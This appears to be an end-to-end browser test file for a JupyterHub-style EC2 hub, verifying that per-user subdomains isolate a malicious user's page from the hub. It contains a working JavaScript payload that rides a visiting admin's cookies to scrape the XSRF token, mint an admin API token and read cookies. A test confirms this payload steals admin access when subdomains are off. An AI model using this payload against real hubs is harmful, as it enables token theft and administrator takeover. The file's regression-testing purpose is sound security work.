"""In a real browser, EC2HUB_SUBDOMAIN_HOST on (`*.localhost`): a page of mallory's, served by her own
server, gets nothing of the admin who opens it; sign-in, spawn (a hot-pool claim), JupyterLab, the
Instances page and the Dask dashboards relay work on their own hosts. The same page on a hub without
subdomains obtains a token of the admin's, which is why the setting exists."""

from __future__ import annotations

import contextlib
import json
import re
from concurrent.futures import ThreadPoolExecutor

import pytest
import requests
from playwright.sync_api import expect

from localcloud.up import Stack
from tests.browser.test_dask_dashboard import STATUS_DRAWN
from tests.browser.test_spawn_in_browser import sign_in, spawn_with
from tests.e2e.kernel import Kernel
from tests.e2e.stack import (
    USER_PASSWORD,
    admin_client,
    approved_user,
    aws_client,
    instances_of,
    listen_port,
    localhost_subdomains,
    running_stack,
    user_origin,
    wait_for,
)
from tests.e2e.test_dask_clusters import cluster_instances, run
from tests.e2e.test_hot_pool import SIZE, waiting_pool_instance

pytestmark = pytest.mark.e2e

# Somewhere in mallory's home that her server serves to anyone, as it is, with no sandbox: JupyterLab
# serves her own lab extensions' files (~/.local/share/jupyter/labextensions) without sign-in.
PAGE_DIR = "mallory-notes/static"
PAGE_PATH = f"/user/mallory/lab/extensions/{PAGE_DIR}/index.html"

# Mallory's page: with the visitor's cookies, read the hub's token page and its API, then ask the hub
# for a token of the visitor's, as the token page's own script would. `window.loot` says what it got.
ATTACK = """<!doctype html><title>Mallory's notes</title><p>Notes</p><script>
const HUB = %(hub)s, ADMIN = %(admin)s;
window.loot = {};
(async () => {
  const get = async (path, options = {}) => {
    try {
      const response = await fetch(HUB + path, {credentials: "include", ...options});
      return {status: response.status, text: await response.text()};
    } catch (e) {
      return {error: String(e)};
    }
  };
  const page = await get("/hub/token");
  loot.token_page = page;
  const xsrf = ((page.text || "").match(/xsrf_token: "([^"]+)"/) || [])[1] || "";
  loot.whoami = await get("/hub/api/user", {headers: {"X-XSRFToken": xsrf}});
  loot.new_token = await get("/hub/api/users/" + ADMIN + "/tokens", {
    method: "POST",
    headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"},
    body: JSON.stringify({note: "mallory's"}),
  });
  loot.cookies = document.cookie;
  loot.done = true;
})();
</script>"""

WRITE_PAGE = """
import pathlib
from jupyter_core.paths import jupyter_data_dir
folder = pathlib.Path(jupyter_data_dir()) / "labextensions" / {folder!r}
folder.mkdir(parents=True, exist_ok=True)
(folder / "index.html").write_text({html!r})
print("written", folder)
"""


def in_thread(function, *args):
    # Playwright's sync API keeps an event loop running in this thread; the kernel's websocket client
    # runs one of its own, so in a thread of its own.
    with ThreadPoolExecutor(max_workers=1) as thread:
        return thread.submit(function, *args).result()


@contextlib.contextmanager
def hub(tmp_path_factory, subnet_base: int, *, subdomains: bool, **settings: str):
    """A stack of its own; with `subdomains`, its users' servers on http://NAME.hub.localhost:PORT."""
    port = listen_port()
    if subdomains:
        settings["EC2HUB_SUBDOMAIN_HOST"] = f"http://hub.localhost:{port}"
    with (
        localhost_subdomains(),
        running_stack(tmp_path_factory, subnet_base=subnet_base, EC2HUB_PORT=str(port), **settings) as stack,
    ):
        yield stack


@pytest.fixture(scope="module")
def stack(tmp_path_factory):
    with hub(tmp_path_factory, 182, subdomains=True, EC2HUB_HOT_POOL=f"{SIZE}=1") as stack:
        yield stack


def test_sign_in_a_pool_claim_jupyterlab_instances_and_dask_dashboards_work_on_their_own_hosts(
    stack, new_page
):
    ec2 = aws_client(stack, "ec2")
    hub_client = approved_user(stack, "alice")
    pooled = waiting_pool_instance(ec2, stack)
    page = new_page()
    sign_in(page, stack, "alice", USER_PASSWORD)
    page.wait_for_selector(".ec2hub-size")
    spawn_with(page, SIZE)
    alice = user_origin(stack, "alice")
    assert alice == f"http://alice.hub.localhost:{stack.settings.port}"
    page.wait_for_url(re.compile(re.escape(alice) + r"/user/alice/lab.*"), timeout=120_000)
    listing = page.locator(".jp-DirListing-content")
    expect(listing.get_by_text("s3", exact=True)).to_be_visible(timeout=120_000)
    [instance] = instances_of(ec2, "alice")
    assert instance["InstanceId"] == pooled["InstanceId"], "the start took over the pool's instance"
    # The cookies that sign her in, the hub's and her server's, are `__Host-`: bound to the host that
    # set them, which no other host can set or overwrite. (JupyterHub's session id, no credential, is
    # shared by the hub's subdomains on purpose.)
    signed_in = {
        (c["name"], c["domain"])
        for c in page.context.cookies()
        if re.search(r"jupyterhub-(hub-login|user-alice)$", c["name"]) and c["secure"] and c["httpOnly"]
    }
    assert signed_in == {
        ("__Host-jupyterhub-hub-login", "hub.localhost"),
        ("__Host-jupyterhub-user-alice", "alice.hub.localhost"),
    }

    # Her Dask cluster's dashboard is on the relay's own host and renders through it (its websocket too).
    kernel = Kernel(alice, "alice", hub_client.token("alice"), timeout=240)
    started = in_thread(
        run,
        kernel,
        """
        import json
        from dask_gateway import Gateway
        cluster = Gateway().new_cluster()
        print(json.dumps({"name": cluster.name, "dashboard": cluster.dashboard_link}))
        """,
    )
    relay = f"http://dask-dashboards--service.hub.localhost:{stack.settings.port}"
    assert started["dashboard"] == f"{relay}/services/dask-dashboards/clusters/{started['name']}/status"
    page.goto(started["dashboard"])
    page.wait_for_function(f"() => ({STATUS_DRAWN})() !== null")
    in_thread(run, kernel, "cluster.shutdown(); print('{}')")
    wait_for(lambda: not cluster_instances(stack), 120, "the cluster's instances to be terminated")

    # The admin's Instances page, on its own host, lists alice's instance and stops it (a POST).
    admin = new_page()
    sign_in(admin, stack, stack.settings.admin_user, stack.settings.admin_password)
    admin.wait_for_url(re.compile(r".*/hub/.*"))
    admin.click("#ec2hub-instances-link")
    instances = f"http://instances--service.hub.localhost:{stack.settings.port}/services/instances/"
    admin.wait_for_url(instances)
    row = admin.locator(f'tr[data-instance-id="{instance["InstanceId"]}"]')
    expect(row.locator(".user")).to_have_text("alice")
    expect(row.locator(".state")).to_have_text("running")
    admin.once("dialog", lambda dialog: dialog.accept())
    row.get_by_role("button", name="Stop").click()
    expect(row.locator(".state")).to_have_text(re.compile("stopping|stopped"))


def mallorys_page(stack: Stack) -> str:
    """mallory's server running, with her page in her home; the page's URL."""
    mallory = approved_user(stack, "mallory")
    mallory.start("mallory")
    mallory.wait_ready("mallory", timeout=120)
    hub_origin = stack.settings.subdomain_host  # "" on a shared origin: the page's own
    html = ATTACK % {
        "hub": json.dumps(hub_origin),
        "admin": json.dumps(stack.settings.admin_user),
    }
    kernel = Kernel(user_origin(stack, "mallory"), "mallory", mallory.token("mallory"))
    written = kernel.run(WRITE_PAGE.format(folder=PAGE_DIR, html=html))
    assert written.ok, written.errors
    url = user_origin(stack, "mallory") + PAGE_PATH
    # Served to anyone, as she wrote it.
    served = requests.get(url, timeout=30)
    assert served.status_code == 200 and "Mallory's notes" in served.text, served.status_code
    assert "sandbox" not in served.headers.get("Content-Security-Policy", "")
    return url


def admin_opens(stack: Stack, new_page, url: str) -> dict:
    """The admin, signed in to the hub, opens `url` in the same browser; what its script obtained."""
    page = new_page()
    sign_in(page, stack, stack.settings.admin_user, stack.settings.admin_password)
    page.wait_for_url(re.compile(re.escape(stack.settings.public_url) + "/hub/.*"))
    page.goto(url)
    page.wait_for_function("() => window.loot && window.loot.done", timeout=60_000)
    return page.evaluate("() => window.loot")


def admins_tokens(stack: Stack) -> set[str]:
    response = admin_client(stack).api("GET", f"/users/{stack.settings.admin_user}/tokens")
    response.raise_for_status()
    return {token["id"] for token in response.json()["api_tokens"]}


def test_a_page_from_mallorys_server_gets_nothing_of_the_admin_who_opens_it(stack, new_page):
    url = in_thread(mallorys_page, stack)
    assert url.startswith(f"http://mallory.hub.localhost:{stack.settings.port}/")
    tokens_before = admins_tokens(stack)

    loot = admin_opens(stack, new_page, url)

    # The hub's origin is not the page's: the browser hands none of the hub's answers to its script.
    for attempt in ("token_page", "whoami", "new_token"):
        assert "text" not in loot[attempt] and "TypeError" in loot[attempt]["error"], (attempt, loot)
    assert "login" not in loot["cookies"], loot["cookies"]
    # Nor did the hub make a token on the admin's behalf (an answer the page could not read).
    assert admins_tokens(stack) == tokens_before


def test_the_same_page_on_a_shared_origin_obtains_a_token_of_the_admins(tmp_path_factory, new_page):
    """Why EC2HUB_SUBDOMAIN_HOST exists: the attack of the test above succeeds without it."""
    with hub(tmp_path_factory, 186, subdomains=False) as shared:
        url = in_thread(mallorys_page, shared)
        assert url.startswith(f"{shared.settings.url}/user/mallory/")
        loot = admin_opens(shared, new_page, url)
        assert loot["token_page"]["status"] == 200
        assert json.loads(loot["whoami"]["text"])["name"] == shared.settings.admin_user
        assert loot["new_token"]["status"] == 201, loot["new_token"]
        stolen = json.loads(loot["new_token"]["text"])["token"]
        me = requests.get(
            f"{shared.settings.url}/hub/api/user", headers={"Authorization": f"token {stolen}"}, timeout=30
        )
        assert me.json()["name"] == shared.settings.admin_user and me.json()["admin"] is True
